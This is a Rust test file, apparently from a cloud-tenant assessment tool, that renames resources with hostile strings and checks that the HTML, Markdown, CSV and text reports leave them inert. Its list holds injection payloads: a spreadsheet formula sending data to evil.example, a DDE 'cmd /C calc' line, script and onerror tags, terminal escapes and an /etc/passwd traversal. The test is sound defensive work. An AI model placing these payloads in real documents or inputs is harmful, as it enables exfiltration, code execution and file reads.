//! Names that want to be code: a tenant whose owner chose them for what reads them next. The job ends as ever, the
//! results hold the names as they are, and nothing that shows them acts on them.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use super::harness::{Bench, Ran, findings};
use super::replay::Tenant;

const NAMES: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "</td><script>alert(1)</script><img src=x onerror=alert(1)>",
    "safe\u{202E}txt.exe\u{2066}",
    "`code` | cell | **bold** [link](javascript:alert(1)) <img src=x> ![](http://evil.example/a.png)",
    "two\nlines\r\n# heading\n| a | b |\n\n<script>alert(2)</script>",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{8}\u{8}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7 * 7 }}{% include \"report.html\" %}",
    "-2+3",
    "\t=1+1",
    " \u{a0}=1+1",
    "\u{0}\u{FEFF}\u{200B}nothing",
    "\"><svg onload=alert(3)>&amp;&#60;script&#62;",
    "../../../etc/passwd",
];

/// Gives each name of the tenant a hostile one, the same for the same name.
#[derive(Default)]
struct Rename(BTreeMap<String, String>);

impl Rename {
    fn of(&mut self, name: &str) -> String {
        let number = self.0.len();
        let hostile = || match name {
            "vm-legacy-ftp" => "n".repeat(100_000),
            _ => format!("{}#{number}", NAMES[number % NAMES.len()]),
        };
        self.0.entry(name.to_owned()).or_insert_with(hostile).clone()
    }

    /// Display names, names of resources, and tags, at any depth.
    fn rename(&mut self, value: &mut Value, names_too: bool) {
        match value {
            Value::Array(items) => items.iter_mut().for_each(|item| self.rename(item, names_too)),
            Value::Object(members) => {
                for (key, member) in members {
                    match (key.as_str(), member) {
                        ("displayName" | "roleName", Value::String(name)) => *name = self.of(name),
                        ("name", Value::String(name)) if names_too => *name = self.of(name),
                        ("tags", Value::Object(tags)) => {
                            tags.values_mut().for_each(|tag| *tag = json!(self.of(tag.as_str().unwrap_or_default())));
                        }
                        (_, member) => self.rename(member, false),
                    }
                }
            }
            _ => {}
        }
    }
}

fn hostile() -> (Tenant, Rename) {
    let mut tenant = Tenant::open("mixed");
    let mut names = Rename::default();
    for answer in 0..tenant.answers.len() {
        let url = tenant.url(answer).to_owned();
        let of_resources = ["/vaults?", "/virtualMachines?", "/resources?", "/userAssignedIdentities?", "/workspaces?"];
        let names_too = of_resources.iter().any(|part| url.contains(part));
        let body = &mut tenant.answers[answer]["response"]["body"];
        if let Some(items) = body.get_mut("value") {
            names.rename(items, names_too);
        }
        for row in body.pointer_mut("/tables/0/rows").and_then(Value::as_array_mut).into_iter().flatten() {
            // `ClientInfo` is the caller's own to choose
            if let Some(client) = row.get_mut(13).filter(|cell| cell.is_string()) {
                *client = json!(names.of(client.as_str().unwrap_or_default()));
            }
        }
    }
    tenant.head["organisation"] = json!({"name": NAMES[1], "system": format!("{}{}", NAMES[4], NAMES[5])});
    (tenant, names)
}

fn is_control(c: char) -> bool {
    let is_bidi = matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}');
    c != '\n' && (c.is_control() || is_bidi)
}

fn is_quiet(what: &str, text: &str) {
    let found = text.char_indices().find(|(_, c)| is_control(*c));
    let around = found.map(|(at, _)| text[..at].chars().rev().take(80).collect::<Vec<_>>().into_iter().rev().collect());
    let around: Option<String> = around;
    assert!(found.is_none(), "{what} sends {:?} after `{}`", found, around.unwrap_or_default());
}

#[test]
fn names_that_want_to_be_code_stay_names() {
    let (tenant, names) = hostile();
    let bench = Bench::new();
    tenant.write(&bench.path("recording"));
    let runs: Vec<(&str, Ran)> = vec![
        ("demo", bench.run(&["demo", "--out", "demo", "--replay", "recording"])),
        ("assess", bench.run(&["--store", "demo/store", "assess"])),
        ("assess as JSON", bench.run(&["--store", "demo/store", "assess", "--format", "json"])),
        ("reperform", bench.run(&["reperform", "demo/pack"])),
        ("verify", bench.run(&["verify", "demo/pack", "--key", "demo/tickmark.pub.pem"])),
    ];
    for ((what, ran), code) in runs.iter().zip([1, 1, 1, 0, 0]) {
        assert_eq!(ran.code, code, "{what}: {}{}", ran.out, ran.err);
        is_quiet(what, &ran.out);
        is_quiet(what, &ran.err);
    }

    let results = bench.results();
    let subjects: Vec<&str> = results["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|finding| finding["subject"]["name"].as_str().expect("a name"))
        .collect();
    for (check, name) in [("KV-002", "kv-track-legacy"), ("NHI-002", "vm-legacy-ftp"), ("RBAC-005", "sp-landing-zone")]
    {
        let of = findings(&results, check);
        assert!(of.contains(&(names.0[name].clone(), "fail".to_owned())), "{check} of {name}: {:.300?}", of);
    }
    let exact = names.0.values().filter(|name| subjects.iter().any(|subject| subject.contains(name.as_str()))).count();
    assert!(exact > 15, "only {exact} of {} names are in the results as they are", names.0.len());

    let files = bench.files("demo/pack");
    let text = |name: &str| String::from_utf8(files[name].clone()).expect("UTF-8");
    for name in files.keys() {
        match name.rsplit('.').next() {
            Some("html") => is_inert_html(name, &text(name)),
            Some("md") => is_inert_markdown(name, &text(name)),
            Some("csv") => is_inert_csv(name, &text(name)),
            Some("txt") => is_quiet(name, &text(name)),
            _ => {}
        }
    }
    for kind in ["html", "md", "csv", "txt"] {
        assert!(files.keys().any(|name| name.ends_with(&format!(".{kind}"))), "{:?}", files.keys());
    }
}

fn is_inert_html(name: &str, text: &str) {
    let lower = text.to_lowercase();
    let tags =
        ["<script", "<img", "<svg onload", "<iframe", "<link", "javascript:alert(1)\"", "=\"javascript", "onerror=\""];
    for tag in tags {
        assert!(!lower.contains(tag), "{name} holds {tag}");
    }
    // no tag has a name in an attribute that leads out or acts
    for tag in lower.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()) {
        for word in ["evil.example", " onload", " onerror", "javascript:"] {
            assert!(!tag.contains(word), "{name}: <{tag}>");
        }
    }
    is_quiet(name, text);
}

fn is_inert_markdown(name: &str, text: &str) {
    is_quiet(name, text);
    // names stand in code spans, which only an engine tells from tags
    let mut html = String::new();
    pulldown_cmark::html::push_html(
        &mut html,
        pulldown_cmark::Parser::new_ext(text, pulldown_cmark::Options::ENABLE_TABLES),
    );
    let html = html.to_lowercase();
    for made in ["<script", "<img", "<svg", "href=\"javascript", "evil.example\"", "<h1>heading"] {
        let line = html.lines().find(|line| line.contains(made));
        assert!(line.is_none(), "{name} becomes {made}: {:.600}", line.unwrap_or_default());
    }
    // a name cannot add a cell to its row
    let cells = |line: &str| line.replace("\\|", "").matches('|').count();
    let mut width = None;
    for line in text.lines() {
        match (line.starts_with('|'), width) {
            (true, None) => width = Some(cells(line)),
            (true, Some(width)) => assert_eq!(cells(line), width, "{name}: {line:.300}"),
            (false, _) => width = None,
        }
    }
}

fn is_inert_csv(name: &str, text: &str) {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
    let mut rows = 0;
    for row in reader.records() {
        rows += 1;
        for cell in row.expect("as many cells as the first row").iter() {
            let seen = cell.trim_start_matches(|c: char| c == ' ' || c == '\u{a0}' || is_control(c));
            let acts = |text: &str| {
                text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '|', '\0', '＝', '＋', '－', '＠'])
            };
            assert!(!acts(cell) && !acts(seen), "{name}: {cell:.200}");
            assert!(cell.chars().count() < 32_000, "{name}: a spreadsheet would cut the cell in two");
        }
    }
    assert!(rows > 0, "{name} is empty");
}
